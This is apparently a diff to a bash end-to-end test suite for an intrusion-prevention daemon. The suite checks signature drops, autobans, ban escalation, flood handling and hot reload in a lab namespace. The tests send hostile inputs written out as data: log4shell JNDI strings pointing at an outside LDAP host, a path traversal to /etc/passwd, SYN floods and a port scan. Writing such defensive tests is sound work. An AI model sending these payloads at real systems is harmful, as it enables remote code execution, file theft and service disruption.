@@ -58,7 +58,16 @@ ctl status | sed 's/^/# /'
 http_log_has() { grep -qF -- "$1" "$LAB_DIR/http.log"; }   # did the request reach the HTTP server?
 curl_from() {   # source-address url [curl args...]: one request from the attacker namespace, exit code
 	local src=$1 url=$2; shift 2
-	att curl -s -o /dev/null -g --path-as-is --max-time 3 --interface "$src" "$@" "$url"
+	att curl -s -o /dev/null -g --path-as-is --max-time "${CURL_MAX:-1.5}" --interface "$src" "$@" "$url"
+}
+# A dropped request stays in the attacker's send queue: its kernel retransmits it for minutes after curl
+# gives up, and each retransmit after a ban expires is a new offence. Kill those sockets (ss -K).
+att_flush() { local a=$1; [[ $a == *:* ]] && a="[$a]"; att ss -K -tn src "$a" >/dev/null 2>&1; }
+attack() {   # source-address url [curl args...]: curl_from, then att_flush; exit code of curl
+	curl_from "$@"
+	local rc=$?
+	att_flush "$1"
+	return $rc
 }
 url_of() { case $1 in *:*) echo "http://[$LAB_SERVER6]${2:-}" ;; *) echo "http://$LAB_SERVER4${2:-}" ;; esac; }
 url_port() { case $1 in *:*) echo "http://[$LAB_SERVER6]:$2/" ;; *) echo "http://$LAB_SERVER4:$2/" ;; esac; }
@@ -86,17 +95,22 @@ BG_PIDS+=($!)
 sleep 1
 
 # ---- signature with action drop: the request is dropped, repeats (retransmits) ban the source -------------
-for src in 192.0.2.67 2001:db8::67; do
+for src in 192.0.2.67 2001:db8:0:66::67; do
 	before=$(lab_stat drop_sig)
-	curl_from "$src" "$(url_of "$src" /static/../../etc/passwd)"
+	CURL_MAX=3 curl_from "$src" "$(url_of "$src" /static/../../etc/passwd)" &
+	cp=$!
+	# the retransmits of the dropped request are repeat offences: threshold 3 bans while curl still waits
+	waited=$(lab_wait_ban "$src" 1 3) && row=$(lab_ban_row "$src") || row=
+	wait "$cp"
 	rc=$?
+	att_flush "$src"
 	[ "$rc" -ne 0 ] && ! http_log_has "/etc/passwd" &&
 		ok "[$src] GET /static/../../etc/passwd dropped (curl exit $rc, never reached the server)" ||
 		notok "[$src] GET /etc/passwd dropped (curl exit $rc; in server log: $(http_log_has /etc/passwd && echo yes || echo no))"
 	after=$(lab_stat drop_sig)
 	check "[$src] drop_sig counter rose ($before -> $after)" [ "$after" -gt "$before" ]
-	waited=$(lab_wait_ban "$src" 1 5) && ok "[$src] autoban banned the source after repeated hits (${waited}s after curl gave up): $(lab_ban_row "$src" | cut -f4)" ||
-		notok "[$src] autoban banned the source (not banned ${waited}s after curl gave up)"
+	[ -n "$row" ] && ok "[$src] autoban banned the source after repeated hits (${waited}s after the request): $(cut -f4 <<<"$row")" ||
+		notok "[$src] autoban banned the source (not banned ${waited}s after the request)"
 done
 
 # ---- signature with action ban: first hit bans; latency from the match event to the ban in the map ------
@@ -104,7 +118,7 @@ for src in 192.0.2.66 2001:db8::66; do
 	labtool banwatch "$src" 10 >"$LAB_DIR/banwatch.out" 2>&1 &
 	bw=$!
 	for i in $(seq 1 50); do grep -q READY "$LAB_DIR/banwatch.out" && break; sleep 0.1; done
-	curl_from "$src" "$(url_of "$src" '/?q=${jndi:ldap://198.51.100.99/a}')" -H 'User-Agent: ${jndi:ldap://198.51.100.99/a}'
+	attack "$src" "$(url_of "$src" '/?q=${jndi:ldap://198.51.100.99/a}')" -H 'User-Agent: ${jndi:ldap://198.51.100.99/a}'
 	rc=$?
 	wait "$bw"
 	res=$(sed -n 's/^RESULT //p' "$LAB_DIR/banwatch.out")
@@ -122,13 +136,13 @@ for src in 192.0.2.66 2001:db8::66; do
 	else
 		notok "[$src] match event and ban both observed (see banwatch line above)"
 	fi
-	row=$(lab_ban_row "$src")
-	[[ $row == *signature* ]] && ok "[$src] ban reason names the signature: $(cut -f4 <<<"$row")" ||
-		notok "[$src] ban reason names the signature (row: $row)"
+	reason=$("$LAB_PY" -c 'import json,sys; print(json.loads(sys.argv[1] or "{}").get("ban",{}).get("reason",""))' "$res" 2>/dev/null)
+	[[ $reason == *"signature log4shell"* ]] && ok "[$src] ban reason names the signature: $reason" ||
+		notok "[$src] ban reason names the signature (reason: $reason)"
 done
 
 # ---- port scan: nmap -sS, banned before it finishes, later probes dropped ---------------------------------
-for src in 192.0.2.68 2001:db8::68; do
+for src in 192.0.2.68 2001:db8:0:66::68; do
 	dst=$(srv_addr "$src")
 	check "[$src] port 8080 answers this source before the scan" curl_from "$src" "$(url_port "$src" 8080)"
 	six=; [[ $src == *:* ]] && six=-6
@@ -162,60 +176,89 @@ for src in 192.0.2.68 2001:db8::68; do
 done
 
 # ---- expiry and escalation: 3 s, then 6 s -----------------------------------------------------------------
-jndi() { curl_from "$1" "$(url_of "$1" '/')" -H 'X-Api: ${jndi:ldap://198.51.100.99/a}'; }
+jndi() { attack "$1" "$(url_of "$1" '/')" -H 'X-Api: ${jndi:ldap://198.51.100.99/a}'; }
+# One ban cycle for SRC, run in the background for v4 and v6 at once: offend, see the ban and its TTL,
+# time it until it is gone, check traffic passes again. Prints TAP lines (counted by collect) and
+# "DUR src n seconds".
+ban_cycle() {   # src n
+	local src=$1 n=$2 tb= tg= row= ttl i cp lo hi
+	CURL_MAX=0.5 jndi "$src" &
+	cp=$!
+	for i in $(seq 1 60); do
+		if lab_banned "$src"; then tb=$(date +%s.%N); row=$(lab_ban_row "$src"); break; fi
+		sleep 0.05
+	done
+	wait "$cp"
+	if [ -z "$tb" ]; then echo "not ok - [$src] ban #$n in place within 3 s"; return; fi
+	ttl=$(cut -f2 <<<"$row")
+	if [ "$n" = 1 ]; then lo=2 hi=3; else lo=5 hi=6; fi
+	[ "$ttl" -ge "$lo" ] 2>/dev/null && [ "$ttl" -le "$hi" ] && { [ "$n" = 1 ] || [[ $row == *"ban #2"* ]]; } &&
+		echo "ok - [$src] ban #$n: expires in ${ttl}s as listed (policy: $((3 * n)) s): $(cut -f4 <<<"$row")" ||
+		echo "not ok - [$src] ban #$n expires in $lo..$hi s$([ "$n" = 2 ] && echo ' and says ban #2') (row: $row)"
+	for i in $(seq 1 $(((n * 3 + 6) * 20))); do
+		lab_banned "$src" || { tg=$(date +%s.%N); break; }
+		sleep 0.05
+	done
+	if [ -z "$tg" ]; then echo "not ok - [$src] ban #$n expired within $((n * 3 + 6)) s"; return; fi
+	local dur
+	dur=$(awk -v a="$tb" -v b="$tg" 'BEGIN { printf "%.1f", b - a }')
+	echo "ok - [$src] ban #$n expired: listed for ${dur}s"
+	echo "DUR $src $n $dur"
+	curl_from "$src" "$(url_of "$src" /index.html)" && echo "ok - [$src] traffic passes again after ban #$n expired" ||
+		echo "not ok - [$src] traffic passes again after ban #$n expired"
+}
+collect() {   # file: count the TAP lines a background helper wrote
+	local line
+	while IFS= read -r line; do
+		case $line in
+		"ok - "*) ok "${line#ok - }" ;;
+		"not ok - "*) notok "${line#not ok - }" ;;
+		*) echo "# $line" ;;
+		esac
+	done <"$1"
+}
 for n in 1 2; do
-	for src in 192.0.2.69 2001:db8::69; do jndi "$src" & done
-	wait
-	for src in 192.0.2.69 2001:db8::69; do
-		if ! lab_wait_ban "$src" 1 3 >/dev/null; then notok "[$src] ban #$n in place"; continue; fi
-		row=$(lab_ban_row "$src")
-		ttl=$(cut -f2 <<<"$row")
-		eval "ttl_${n}_${src//[.:]/_}=$ttl"
-		if [ "$n" = 1 ]; then
-			[ "$ttl" -ge 1 ] 2>/dev/null && [ "$ttl" -le 3 ] && ok "[$src] first ban: expires in ${ttl}s (policy: 3 s)" ||
-				notok "[$src] first ban expires in <= 3 s (got '$ttl')"
-		else
-			[ "$ttl" -ge 4 ] 2>/dev/null && [ "$ttl" -le 6 ] && [[ $row == *"ban #2"* ]] &&
-				ok "[$src] repeat offence escalates: expires in ${ttl}s (policy: 6 s), $(cut -f4 <<<"$row")" ||
-				notok "[$src] second ban expires in 4..6 s and says ban #2 (row: $row)"
-		fi
-	done
-	for src in 192.0.2.69 2001:db8::69; do
-		lab_banned "$src" || continue
-		limit=$((n * 3 + 6))
-		waited=$(lab_wait_ban "$src" 0 "$limit") && ok "[$src] ban #$n expired (gone ${waited}s after it was seen)" ||
-			notok "[$src] ban #$n expired within ${limit}s"
-		eval "gone_${n}_${src//[.:]/_}=$waited"
-		check "[$src] traffic passes again after ban #$n expired" curl_from "$src" "$(url_of "$src" /index.html)"
-	done
+	jp=()
+	for src in 192.0.2.69 2001:db8:0:66::69; do ban_cycle "$src" "$n" >"$LAB_DIR/cycle-$n-${src//[.:]/_}" 2>&1 & jp+=($!); done
+	wait "${jp[@]}"
+	for src in 192.0.2.69 2001:db8:0:66::69; do collect "$LAB_DIR/cycle-$n-${src//[.:]/_}"; done
 done
-for src in 192.0.2.69 2001:db8::69; do
-	k=${src//[.:]/_}; g1=$(eval echo "\${gone_1_$k:-}"); g2=$(eval echo "\${gone_2_$k:-}")
-	[ -n "$g1" ] && [ -n "$g2" ] && awk -v a="$g1" -v b="$g2" 'BEGIN { exit !(b > a) }' &&
-		ok "[$src] second ban lasted longer than the first (${g1}s -> ${g2}s measured)" ||
-		notok "[$src] second ban lasted longer than the first (${g1:-?}s -> ${g2:-?}s)"
+for src in 192.0.2.69 2001:db8:0:66::69; do
+	g1=$(cat "$LAB_DIR"/cycle-1-* | awk -v s="$src" '$1 == "DUR" && $2 == s { print $4 }')
+	g2=$(cat "$LAB_DIR"/cycle-2-* | awk -v s="$src" '$1 == "DUR" && $2 == s { print $4 }')
+	[ -n "$g1" ] && [ -n "$g2" ] && awk -v a="$g1" -v b="$g2" 'BEGIN { exit !(b > a + 1) }' &&
+		ok "[$src] the second ban lasted longer than the first (${g1}s -> ${g2}s measured)" ||
+		notok "[$src] the second ban lasted longer than the first (${g1:-?}s -> ${g2:-?}s)"
 done
 
 # ---- floods and malformed packets while the client keeps working ------------------------------------------
 att timeout 4 hping3 -q -S -p 80 -a 192.0.2.70 -i u200 "$LAB_SERVER4" >/dev/null 2>&1 &
 fl4=$!
-labtool_in "$LAB_NS_ATTACKER" synflood6 2001:db8::70 "$LAB_SERVER6" "$mac" 80 1500 >/dev/null 2>&1 &
+labtool_in "$LAB_NS_ATTACKER" synflood6 2001:db8:0:66::70 "$LAB_SERVER6" "$mac" 80 1500 >/dev/null 2>&1 &
 fl6=$!
-for src in 192.0.2.70 2001:db8::70; do
+for src in 192.0.2.70 2001:db8:0:66::70; do
 	waited=$(lab_wait_ban "$src" 1 12) && ok "[$src] SYN flood source banned by synflood (${waited}s): $(lab_ban_row "$src" | cut -f4)" ||
 		notok "[$src] SYN flood source banned within 12 s"
 done
 wait "$fl4" "$fl6"
 check "drop_rate_syn counted the flood ($(lab_stat drop_rate_syn) packets)" [ "$(lab_stat drop_rate_syn)" -gt 0 ]
-m_before=$(($(lab_stat drop_malformed_l3) + $(lab_stat drop_malformed_l4) + $(lab_stat drop_invalid) + $(lab_stat drop_ext_chain)))
+# Malformed packets: each kind must be dropped for its own reason (the first of each kind is judged before
+# autoban bans the source for them; later ones may be dropped as banned). Every one must be dropped.
+drops_total() { labtool stats 2>/dev/null | awk '$1 == "verdict" && $2 == "drop" { s += $4 } END { print s + 0 }'; }
+declare -A mb
+for r in drop_malformed_l3 drop_malformed_l4 drop_invalid drop_ext_chain; do mb[$r]=$(lab_stat $r); done
+d_before=$(drops_total)
 labtool_in "$LAB_NS_ATTACKER" malformed 192.0.2.71 "$LAB_SERVER4" "$mac" | sed 's/^/# v4: /'
-labtool_in "$LAB_NS_ATTACKER" malformed 2001:db8::71 "$LAB_SERVER6" "$mac" | sed 's/^/# v6: /'
+labtool_in "$LAB_NS_ATTACKER" malformed 2001:db8:0:66::71 "$LAB_SERVER6" "$mac" | sed 's/^/# v6: /'
 sleep 0.5
-m_after=$(($(lab_stat drop_malformed_l3) + $(lab_stat drop_malformed_l4) + $(lab_stat drop_invalid) + $(lab_stat drop_ext_chain)))
-note "malformed/invalid drops: l3 $(lab_stat drop_malformed_l3), l4 $(lab_stat drop_malformed_l4), invalid $(lab_stat drop_invalid), ext_chain $(lab_stat drop_ext_chain)"
-check "malformed packets dropped (malformed+invalid drops $m_before -> $m_after, 220 sent)" [ $((m_after - m_before)) -ge 200 ]
+d_after=$(drops_total)
+for r in drop_malformed_l3 drop_malformed_l4 drop_invalid drop_ext_chain; do
+	a=$(lab_stat $r)
+	check "malformed: $r counted (${mb[$r]} -> $a)" [ "$a" -gt "${mb[$r]}" ]
+done
+check "malformed: all 220 dropped (drops rose by $((d_after - d_before)))" [ $((d_after - d_before)) -ge 220 ]
 # A UDP datagram carrying a ban signature (proto any) to the open DNS port bans its source.
-for src in 192.0.2.72 2001:db8::72; do
+for src in 192.0.2.72 2001:db8:0:66::72; do
 	labtool_in "$LAB_NS_ATTACKER" udp-send "$src" "$(srv_addr "$src")" 53 '${jndi:ldap://198.51.100.99/a}'
 	waited=$(lab_wait_ban "$src" 1 3) && ok "[$src] UDP datagram with \${jndi: banned its source (${waited}s)" ||
 		notok "[$src] UDP datagram with \${jndi: bans its source"
@@ -223,13 +266,15 @@ done
 
 # ---- hot reload during traffic: no connection, no ban lost --------------------------------------------------
 ctl ban add 192.0.2.73 --ttl 600 --reason "e2e manual v4" >/dev/null
-ctl ban add 2001:db8::73 --ttl 600 --reason "e2e manual v6" >/dev/null
-for src in 192.0.2.73 2001:db8::73; do
-	! curl_from "$src" "$(url_of "$src" /index.html)" && ok "[$src] manual ban enforced before reload" ||
+ctl ban add 2001:db8:0:66::73 --ttl 600 --reason "e2e manual v6" >/dev/null
+for src in 192.0.2.73 2001:db8:0:66::73; do
+	! attack "$src" "$(url_of "$src" /index.html)" && ok "[$src] manual ban enforced before reload" ||
 		notok "[$src] manual ban enforced before reload"
 done
 bans_before=$(labtool bans | cut -f1 | sort | tr '\n' ' ')
 t_reload=$(labtool now)
+daemon_pid=$(ctl --json status | "$LAB_PY" -c 'import json,sys; print(json.load(sys.stdin)["pid"])' 2>/dev/null)
+check "hyperiond pid from status ($daemon_pid) is the one started ($LAB_DAEMON_PID)" [ "$daemon_pid" = "$LAB_DAEMON_PID" ]
 kill -HUP "$LAB_DAEMON_PID"
 sleep 1
 check "hyperiond alive after SIGHUP" kill -0 "$LAB_DAEMON_PID"
@@ -246,8 +291,8 @@ for f in ka4 ka6; do
 		notok "[$f] long-lived connection survives reloads ($after round trips since reload, $fails failures: $(grep -m1 '^fail' "$LAB_DIR/$f.log"))"
 done
 bans_after=$(labtool bans | cut -f1 | sort | tr '\n' ' ')
-for src in 192.0.2.73 2001:db8::73; do
-	lab_banned "$src" && ! curl_from "$src" "$(url_of "$src" /index.html)" &&
+for src in 192.0.2.73 2001:db8:0:66::73; do
+	lab_banned "$src" && ! attack "$src" "$(url_of "$src" /index.html)" &&
 		ok "[$src] manual ban still listed and enforced after reloads" ||
 		notok "[$src] manual ban survives reloads (before: $bans_before; after: $bans_after)"
 done
@@ -271,11 +316,11 @@ failures=$(ctl --json status | "$LAB_PY" -c 'import json,sys; print(json.load(sy
 check "status counts the failed reloads (reload_failures=$failures)" [ "${failures:-0}" -ge 2 ]
 sigs_now=$(ctl --json status | "$LAB_PY" -c 'import json,sys; print(json.load(sys.stdin).get("signatures"))' 2>/dev/null)
 check "old policy still loaded ($sigs_now signatures, was $sigs_before)" [ -n "$sigs_now" ] && [ "$sigs_now" = "$sigs_before" ]
-for src in 192.0.2.74 2001:db8::74; do
-	! curl_from "$src" "$(url_of "$src" /a/../../etc/passwd)" && ok "[$src] old policy still drops signature hits" ||
+for src in 192.0.2.74 2001:db8:0:66::74; do
+	! attack "$src" "$(url_of "$src" /a/../../etc/passwd)" && ok "[$src] old policy still drops signature hits" ||
 		notok "[$src] old policy still drops signature hits"
 	check "[$src] old policy still serves port 80" curl_from 192.0.2.75 "$(url_of 192.0.2.75 /index.html)"
-	lab_banned 192.0.2.73 && ! curl_from 192.0.2.73 "$(url_of 192.0.2.73 /index.html)" &&
+	lab_banned 192.0.2.73 && ! attack 192.0.2.73 "$(url_of 192.0.2.73 /index.html)" &&
 		ok "[$src] bans still enforced after the refused reload" || notok "[$src] bans still enforced after the refused reload"
 	break
 done
